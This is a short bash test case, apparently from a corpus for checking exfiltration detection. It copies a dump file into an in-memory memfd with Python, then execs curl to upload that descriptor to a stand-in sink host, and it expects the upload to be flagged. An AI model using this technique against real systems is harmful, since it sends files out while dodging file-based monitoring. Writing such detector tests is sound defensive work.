#!/bin/bash
# B-memfd: the dump is copied into a memfd, which curl inherits and sends.
# flow: python reads and writes the memfd; exec drops its memory but not the descriptor; curl reads that and sends.
# tools: python3 curl
# expect: sent counted port critical
# set: fast
. "$CORPUS/lib.sh"
mkdump
sink http
python3 -c 'import os, sys
memory = os.memfd_create("x", 0)
os.write(memory, open(sys.argv[1], "rb").read())
os.execvp("curl", ["curl", "-sS", "-T", f"/proc/self/fd/{memory}", sys.argv[2]])' "$D" "http://$SINK:$PORT/up"
sunk
